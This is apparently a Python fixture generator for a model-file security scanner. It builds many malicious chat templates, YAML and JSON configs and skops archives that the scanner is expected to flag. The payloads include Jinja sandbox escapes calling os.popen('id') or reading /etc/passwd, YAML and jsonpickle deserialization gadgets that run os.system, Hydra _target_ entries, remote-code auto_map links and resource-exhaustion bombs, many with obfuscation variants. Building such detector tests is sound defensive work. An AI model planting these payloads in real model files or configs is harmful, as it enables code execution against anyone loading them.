"""Settings beside a model: JSON, YAML, templates, skops."""

import base64
import json

from writers import *

FOUND = "found"
BANG = whole(call("os", "system", "id"))

TEMPLATES = {
    "class-chain": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "attr-filter": "{{ ''|attr('__class__') }}",
    "attr-filter-built": "{{ ''|attr('__cl' ~ 'ass__') }}",
    "attr-filter-joined": "{{ ''|attr(['__','class','__']|join) }}",
    "attr-filter-escaped": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "attr-filter-octal": "{{ ''|attr('\\137\\137class\\137\\137') }}",
    "attr-filter-format": "{{ ''|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
    "attr-filter-reversed": "{{ ''|attr('__ssalc__'|reverse) }}",
    "attr-filter-lower": "{{ ''|attr('__CLASS__'|lower) }}",
    "attr-filter-replace": "{{ ''|attr('xxclassxx'.replace('x','_')) }}",
    "subscript": "{{ ''['__class__'] }}",
    "subscript-built": "{{ ''['__cla'+'ss__'] }}",
    "subscript-variable": "{% set a = '__class__' %}{{ ''[a] }}",
    "subscript-variable-built": "{% set a = '_' * 2 %}{{ ''[a ~ 'class' ~ a] }}",
    "subscript-from-message": "{{ messages[0][messages[1]['content']]()|attr(messages[2]['content']) }}",
    "map-attribute": "{{ ['']|map(attribute='__class__')|list }}",
    "map-attr": "{{ ['']|map('attr','__class__')|list }}",
    "selectattr": "{{ [messages]|selectattr('__class__')|list }}",
    "groupby": "{{ messages|groupby('__class__') }}",
    "sort-attribute": "{{ messages|sort(attribute='__class__.__name__') }}",
    "sum-attribute": "{{ messages|sum(attribute='__len__') }}",
    "macro-default": "{% macro f(x=cycler.__init__) %}{{ x.__globals__ }}{% endmacro %}{{ f() }}",
    "call-block": "{% call(x) lipsum.__globals__.os.system('id') %}{% endcall %}",
    "set-block": "{% set x %}__class__{% endset %}{{ ''[x] }}",
    "filter-block": "{% filter attr('__class__') %}a{% endfilter %}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "joiner": "{{ joiner.__init__.__globals__.os }}",
    "namespace": "{{ namespace.__init__.__globals__.os }}",
    "self": "{{ self.__init__.__globals__.__builtins__ }}",
    "self-name": "{{ self._TemplateReference__context }}",
    "format-method": "{{ '{0.__class__}'.format(messages) }}",
    "format-map": "{{ '{a.__class__}'.format_map({'a': 1}) }}",
    "percent-format": "{{ ('%s' * 2) % ('__cl','ass__') }}{{ ''|attr(('%s' * 2) % ('__cl','ass__')) }}",
    "raise-exception-globals": "{{ raise_exception.__globals__ }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'x' as y %}{{ y }}",
    "from-import": "{% from 'x' import y %}{{ y() }}",
    "extends": "{% extends '/etc/passwd' %}",
    "endless-range": "{% for i in range(999999999999) %}{{ i }}{% endfor %}",
    "endless-nested": "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    "endless-text": "{{ 'x' * 99999999999 }}",
    "endless-power": "{{ 9**9**9 }}",
    "generator-frame": "{{ (messages|map('upper')).gi_frame.f_globals }}",
    "mro-no-underscores": "{{ messages.mro() }}",
    "config": "{{ config.items() }}",
    "request": "{{ request.application.__globals__ }}",
    "eval-name": "{{ eval('1') }}",
    "popen-call": "{{ messages.popen('id') }}",
    "do-statement": "{% do ''.__class__ %}",
    "comment-hides": "{# x #}{{ ''.__class__ }}",
    "raw-before": "{% raw %}{{ x }}{% endraw %}{{ ''.__class__ }}",
    "whitespace-control": "{%- set x = ''.__class__ -%}{{- x -}}",
    "newlines": "{{\n''\n.\n__class__\n}}",
    "line-statement": "{{ ''|attr\n(\n'__class__'\n) }}",
    "dict-key": "{% set d = {'a': '__class__'} %}{{ ''[d.a] }}",
    "tilde-loop": "{% for c in ['__','class','__'] %}{% set ns.x = ns.x ~ c %}{% endfor %}{{ ''[ns.x] }}",
    "unicode-name": "{{ ''.__ｃlass__ }}",
    "filter-unknown": "{{ messages|system }}",
    "test-unknown": "{{ messages is system('id') }}",
    "url-for": "{{ url_for.__globals__.os }}",
    "first-filter": "{{ ''|attr(['__class__']|first) }}",
    "string-slice": "{{ ''['x__class__'[1:]] }}",
    "string-index": "{{ ''['_'[0]~'_class_'~'_'] }}",
    "namespaced": "{% set ns = namespace(a='__class__') %}{{ ''[ns.a] }}",
    "loop-attribute": "{{ loop.__init__ }}",
    "undefined": "{{ undefined_thing.__init__.__globals__ }}",
}
CHAT = "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}{% endfor %}"


def templates(add):
    for i, (file, text) in enumerate(TEMPLATES.items()):
        add("template", file + ".gguf", gguf_model(CHAT + text), FOUND)
        if i % 2:
            add("template", file + ".json", json.dumps({"chat_template": CHAT + text, "tokenizer_class": "LlamaTokenizerFast"}).encode(), FOUND)
        else:
            add("template", file + ".jinja", (CHAT + text).encode(), FOUND)
    bad = CHAT + TEMPLATES["globals"]

    def one(file, raw):
        add("template", file, raw, FOUND)

    one("named.gguf", gguf_model(bad, key="tokenizer.chat_template.tool_use"))
    one("second-of-two.gguf", gguf_model(CHAT, more=(("tokenizer.chat_template.rag", "str", bad), ("tokenizer.chat_templates", "arr", ("str", ["rag"])))))
    one("key-twice.gguf", gguf_model(CHAT, more=(("tokenizer.chat_template", "str", bad),)))
    one("list-of-templates.json", json.dumps({"chat_template": [{"name": "default", "template": CHAT}, {"name": "tool_use", "template": bad}]}).encode())
    one("dictionary-of-templates.json", json.dumps({"chat_template": {"default": CHAT, "tool_use": bad}}).encode())
    one("chat-template-file.json", json.dumps({"chat_template": bad}).encode())
    one("processor.json", json.dumps({"processor_class": "X", "chat_template": bad}).encode())
    one("key-escaped.json", json.dumps({"chat_template": bad}).replace("chat_template", "chat\\u005ftemplate").encode())
    one("escaped-text.json", json.dumps({"chat_template": bad}).replace("__globals__", "\\u005f\\u005fglobals\\u005f\\u005f").encode())
    one("duplicate-key.json", ('{"chat_template": %s, "chat_template": %s}' % (json.dumps(CHAT), json.dumps(bad))).encode())
    one("bom.json", b"\xef\xbb\xbf" + json.dumps({"chat_template": bad}).encode())
    one("utf16.json", json.dumps({"chat_template": bad}).encode("utf-16"))
    for i, lead in enumerate(("import os\n", "# import os\ndef f():\n    pass\n", "from x import y\nclass A:\n    pass\n", "{# import os #}\n", "{%- set x = 'import os' %}\n")):
        one(f"python-before-{i}.jinja", (lead + bad).encode())
    one("html-before.jinja", ("<html><body>" + bad + "</body></html>").encode())
    one("shell-before.jinja", ("#!/bin/sh\n" + bad).encode())
    one("yaml-before.jinja", ("a: 1\nb: " + bad + "\n").encode())
    one("json-before.jinja", ("{" + bad + "}").encode())
    one("bracket-before.jinja", ("[INST] " + bad + " [/INST]").encode())
    one("less-before.jinja", ("<s>" + bad).encode())
    one("yaml-template.yaml", ("chat_template: |\n  " + bad + "\n").encode())
    one("ollama-like.yaml", ("template: \"" + bad.replace('"', "'") + "\"\n").encode())
    one("template-in-zip.zip", zip_file([Member("tokenizer_config.json", json.dumps({"chat_template": bad}).encode())]))


def texts(add):
    def one(file, raw):
        add("settings", file, raw.encode() if isinstance(raw, str) else raw, FOUND)

    for i, target in enumerate(("os.system", "subprocess.Popen", "builtins.eval", "builtins.exec", "importlib.import_module", "torch.hub.load", "pydoc.locate", "hydra.utils.get_method", "numpy.load",
                                "torch.load", "pickle.loads", "shutil.rmtree", "ctypes.CDLL", "runpy.run_path", "torch.storage.os.system", "nemo.core.os.system", "transformers.utils.import_utils.os.popen",
                                "webbrowser.open", "urllib.request.urlopen", "functools.partial.__init__", "evil_package.go", "joblib.load", "pandas.read_pickle", "code.interact", "pty.spawn")):
        one(f"target-{target}.yaml", f"model:\n  _target_: {target}\n  _args_: [id]\n" if i % 2 else json.dumps({"model": {"_target_": target}}))
    one("target-nested.yaml", "a:\n  - b:\n      c:\n        _target_: os.system\n        command: id\n")
    one("target-flow.yaml", "a: {b: {_target_: os.system}}\n")
    one("target-quoted.yaml", "a: {\"_target_\": \"os\\x2esystem\"}\n")
    one("target-anchor.yaml", "x: &x\n  _target_: os.system\ny:\n  <<: *x\n")
    one("target-partial.yaml", "_target_: functools.partial\n_args_:\n  - _target_: os.system\n")
    one("target-partial-name.yaml", "a:\n  _target_: hydra.utils.get_class\n  path: os.system\n")
    one("target-second-document.yaml", "a: 1\n---\n_target_: os.system\n")
    one("python-apply.yaml", "a: !!python/object/apply:os.system ['id']\n")
    one("python-new.yaml", "a: !!python/object/new:subprocess.Popen [['id']]\n")
    one("python-name.yaml", "a: !!python/name:os.system\n")
    one("python-module.yaml", "a: !!python/module:os\n")
    one("python-object.yaml", "a: !!python/object:evil.Thing {x: 1}\n")
    one("python-key.yaml", "? !!python/object/apply:os.system ['id']\n: 1\n")
    one("python-verbatim.yaml", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n")
    one("python-directive.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['id']\n")
    one("python-directive-short.yaml", "%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system ['id']\n")
    one("python-percent.yaml", "a: !!python/object/%61pply:os.system ['id']\n")
    one("python-flow.yaml", "[!!python/object/apply:os.system ['id']]\n")
    one("python-top.yaml", "!!python/object/apply:os.system ['id']\n")
    one("python-utf16.yaml", "\ufeffa: !!python/object/apply:os.system ['id']\n".encode("utf-16-le"))
    one("python-bom.yaml", b"\xef\xbb\xbfa: !!python/object/apply:os.system ['id']\n")
    one("python-tuple-of-apply.yaml", "!!python/tuple\n- !!python/object/apply:os.system ['id']\n")
    one("python-broken-behind.yaml", "a: !!python/object/apply:os.system ['id']\nb: [\n")
    one("ruby.yaml", "--- !ruby/object:Gem::Installer\ni: x\n")
    one("hyperpyyaml-apply.yaml", "a: !apply:os.system [id]\n")
    one("hyperpyyaml-new.yaml", "a: !new:subprocess.Popen\n    args: id\n")
    one("hyperpyyaml-name.yaml", "a: !name:os.system\n")
    one("hyperpyyaml-module.yaml", "a: !module:os\n")
    one("laughs.yaml", "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)))
    one("auto-map-address.json", '{"auto_map": {"AutoModel": "https://evil/x.py"}}')
    one("auto-map-outside.json", '{"auto_map": {"AutoModel": "../../x.Model"}}')
    one("auto-map-other.json", '{"auto_map": {"AutoModel": "evil/repo--modeling.Model"}}')
    one("auto-map-list.json", '{"auto_map": {"AutoTokenizer": [null, "evil/repo--tok.Tok"]}}')
    one("auto-map-text.json", '{"auto_map": "evil/repo--modeling.Model"}')
    one("auto-map-nested.json", '{"text_config": {"auto_map": {"AutoConfig": "evil/repo--c.C"}}}')
    one("auto-map-twice.json", '{"auto_map": {"AutoModel": "modeling.Model"}, "auto_map": {"AutoModel": "evil/repo--m.M"}}')
    one("jsonpickle.json", '{"py/object": "os.system", "x": 1}')
    one("jsonpickle-reduce.json", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}')
    one("jsonpickle-type.json", '{"py/type": "subprocess.Popen"}')
    one("jsonpickle-repr.json", '{"py/repr": "os/os.system(\'id\')"}')
    one("jsonpickle-escaped.json", '{"py\\/reduce": [{"py\\u002ffunction": "os.system"}]}')
    one("diffusers-component.json", '{"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]}')
    one("sentence-transformers.json", '[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]')
    one("sentence-transformers-outside.json", '[{"idx": 0, "name": "0", "path": "../../x", "type": "evil.Module"}]')
    one("mlflow-loader.yaml", "flavors:\n  python_function:\n    loader_module: os\n    python_version: 3.11\n")
    one("stable-baselines.json", json.dumps({"policy_class": {":type:": "<class>", ":serialized:": base64.b64encode(BANG).decode()}}))
    one("langchain.json", '{"_type": "prompt", "template_format": "jinja2", "template": "{{ \'\'.__class__.__mro__ }}"}')
    one("langchain-lc.json", '{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}')
    one("latent-diffusion.yaml", "model:\n  target: os.system\n  params: {command: id}\n")
    one("broken-behind.json", '{"a": {"_target_": "os.system"}, "b": ')
    one("lines.jsonl", '{"a": 1}\n{"_target_": "os.system"}\n')
    one("trailing-comma.json", '{"a": {"_target_": "os.system",},}\n')
    one("deep.json", '{"a":' * 3000 + '{"_target_": "os.system"}' + "}" * 3000)


def skops(add):
    def one(file, schema, extra=()):
        add("skops", file + ".skops", zip_file([Member("schema.json", json.dumps(schema).encode()), *extra]), FOUND)

    def top(node):
        return {"__class__": "Pipeline", "__module__": "sklearn.pipeline", "__loader__": "ObjectNode", "content": node, "protocol": 2, "_skops_version": "0.11"}

    node = lambda cls, module, loader, **more: {"__class__": cls, "__module__": module, "__loader__": loader, "__id__": 1, **more}
    one("os-system", top(node("system", "os", "TypeNode")))
    one("function-node", top(node("system", "os", "FunctionNode", content="system")))
    one("method-node", top(node("method", "builtins", "MethodNode", content={"func": "system", "obj": node("x", "os", "ObjectNode")})))
    one("operator-node", top(node("methodcaller", "operator", "OperatorFuncNode", attrs=node("tuple", "builtins", "TupleNode"))))
    one("reduce-node", top(node("Popen", "subprocess", "ReduceNode", reduce=node("tuple", "builtins", "TupleNode"))))
    one("partial-node", top(node("partial", "functools", "PartialNode", content={"func": node("system", "os", "FunctionNode")})))
    one("object-node", top(node("Thing", "evil.package", "ObjectNode")))
    one("unknown-node", top(node("Thing", "sklearn.base", "EvilNode")))
    one("eval-type", top(node("eval", "builtins", "FunctionNode")))
    one("deep", top({"a": [{"b": {"c": node("system", "os", "FunctionNode")}}]}))
    one("member-objects", top(node("ndarray", "numpy", "NdArrayNode", type="numpy", file="1.npy")), [Member("1.npy", npy("'|O'", "(1,)", BANG))])
    one("member-pickle", top(node("dict", "builtins", "DictNode")), [Member("x.pkl", BANG)])
    one("sparse-member", top(node("csr_matrix", "scipy.sparse", "SparseMatrixNode", file="1.npz")), [Member("1.npz", zip_file([Member("data.npy", npy("'|O'", "(1,)", BANG))]))])


ALL = (templates, texts, skops)
